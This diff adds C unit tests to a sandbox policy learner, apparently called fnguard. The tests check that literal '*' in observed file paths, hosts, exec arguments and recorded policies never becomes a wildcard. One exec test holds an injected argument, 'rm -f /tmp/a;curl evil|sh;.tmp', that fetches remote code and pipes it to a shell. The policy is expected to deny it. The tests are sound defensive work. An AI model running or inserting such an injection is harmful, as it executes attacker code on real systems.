@@ -58,6 +58,36 @@ Test(learn, files_dedupe_and_union)
 	learner_free(l);
 }
 
+/*
+ * Names an attacker chooses (an upload called "*", a probe for "dir/*", a
+ * URL with host "*.*"): the learned rule covers the name, not a directory or
+ * every host (review, 2026-11-23).
+ */
+Test(learn, observed_stars_are_not_wildcards)
+{
+	struct learner *l = fresh();
+	cr_assert_eq(learner_add_file(l, "/srv/up/*", POLICY_RIGHT_READ), 0);
+	cr_assert_eq(learner_add_file(l, "/srv/**", POLICY_RIGHT_READ | POLICY_RIGHT_WRITE), 0);
+	cr_assert_eq(learner_add_unix(l, "/run/*.sock", false), 0);
+	cr_assert_eq(learner_add_host(l, "*.*", 443, NET_PROTO_TCP, false), -EINVAL);
+	cr_assert_eq(learner_add_host(l, "*.example.com", 443, NET_PROTO_TCP, false), -EINVAL);
+	char *t = json(l, NULL, NULL);
+	assert_has(t, "\"/srv/up/?\"");
+	assert_has(t, "\"/srv/??\"");
+	assert_lacks(t, "*");
+	struct policy *p = load_text(t);
+	struct policy_verdict v;
+	cr_assert_eq(policy_check_file(p, "/srv/up/*", 9, POLICY_RIGHT_READ, &v), 0);
+	cr_assert(v.allowed);
+	cr_assert_eq(policy_check_file(p, "/srv/up/secret", 14, POLICY_RIGHT_READ, &v), 0);
+	cr_assert(!v.allowed);
+	cr_assert_eq(policy_check_file(p, "/srv/up/x/y", 11, POLICY_RIGHT_WRITE, &v), 0);
+	cr_assert(!v.allowed);
+	policy_free(p);
+	free(t);
+	learner_free(l);
+}
+
 Test(learn, odd_names_become_valid_patterns)
 {
 	struct learner *l = fresh();
@@ -151,21 +181,30 @@ Test(learn, exec)
 	learner_free(l);
 
 	/*
-	 * A literal "**" argument before the last one: a profile cannot list it
-	 * as is (there it would mean "the rest"), so the learner writes "??";
-	 * as the last one it stays, matching the rest (found by fuzz_learn).
+	 * Literal '*' in arguments (found by fuzz_learn for "**"; review,
+	 * 2026-11-23, for the rest): an observed argument is never a wildcard,
+	 * anywhere: "**" is "??", "*.tmp" is "?.tmp". As the last element "**"
+	 * would have been "every further argument": "sh -c **" any command.
 	 */
 	l = fresh();
 	const char *stars[] = {"**", "-c", "**", NULL};
 	cr_assert_eq(learner_add_exec(l, "/bin/sh", (char *const *)stars), 0);
+	const char *glob_arg[] = {"sh", "-c", "rm -f /tmp/*.tmp", NULL};
+	cr_assert_eq(learner_add_exec(l, "/bin/dash", (char *const *)glob_arg), 0);
 	t = json(l, NULL, NULL);
-	assert_has(t, "\"argv\": [\"??\", \"-c\", \"**\"]");
+	assert_has(t, "\"argv\": [\"??\", \"-c\", \"??\"]");
+	assert_has(t, "\"rm -f /tmp/?.tmp\"");
 	p = load_text(t);
 	cr_assert_eq(policy_check_exec(p, "/bin/sh", 7, (char *const *)stars, &v), 0);
 	cr_assert(v.allowed);
 	const char *other[] = {"dash", "-c", "id", NULL};
 	cr_assert_eq(policy_check_exec(p, "/bin/sh", 7, (char *const *)other, &v), 0);
 	cr_assert(!v.allowed, "\"??\" matches two characters only");
+	cr_assert_eq(policy_check_exec(p, "/bin/dash", 9, (char *const *)glob_arg, &v), 0);
+	cr_assert(v.allowed);
+	const char *injected[] = {"sh", "-c", "rm -f /tmp/a;curl evil|sh;.tmp", NULL};
+	cr_assert_eq(policy_check_exec(p, "/bin/dash", 9, (char *const *)injected, &v), 0);
+	cr_assert(!v.allowed, "a '*' in a learned command is not a wildcard");
 	policy_free(p);
 	free(t);
 	learner_free(l);
@@ -274,6 +313,35 @@ Test(learn, fill_does_not_count_twice, .init = setup, .fini = teardown)
 		      "\"invoke\" }");
 	assert_lacks(t, "syscalls");
 	free(t);
+	learner_free(l);
+}
+
+/*
+ * The recording is written by the recorded tree itself: a process there can
+ * write "/**" into it. Only what the learner could have written (observed
+ * names, no '*') is taken (review, 2026-11-23).
+ */
+Test(learn, fill_takes_observed_names_only, .init = setup, .fini = teardown)
+{
+	struct learner *l = fresh();
+	struct diag_list d = {0};
+	const char *rec =
+		write_doc("rec.json",
+			  "{\"fnguard\": 1, \"files\": [{\"path\": \"/**\", \"allow\": \"rwcd\"}, "
+			  "{\"path\": \"/etc/new\", \"allow\": \"r\"}], \"network\": [{\"host\": "
+			  "\"*.evil.com\"}, {\"host\": \"api.example.com\", \"ports\": [443]}], "
+			  "\"exec\": [{\"path\": \"/bin/sh\", \"argv\": [\"sh\", \"-c\", \"*\"]}, "
+			  "{\"path\": \"/usr/bin/*\"}, {\"path\": \"/bin/true\"}]}");
+	cr_assert_eq(learner_fill_from_file(l, rec, &d), 0);
+	cr_assert_eq(d.n, 1);
+	cr_assert(strstr(d.lines[0], "4 rules with wildcards dropped"), "%s", d.lines[0]);
+	char *t = json(l, NULL, NULL);
+	assert_lacks(t, "*");
+	assert_has(t, "\"/etc/new\"");
+	assert_has(t, "\"api.example.com\"");
+	assert_has(t, "\"/bin/true\"");
+	free(t);
+	diag_list_clear(&d);
 	learner_free(l);
 }
 
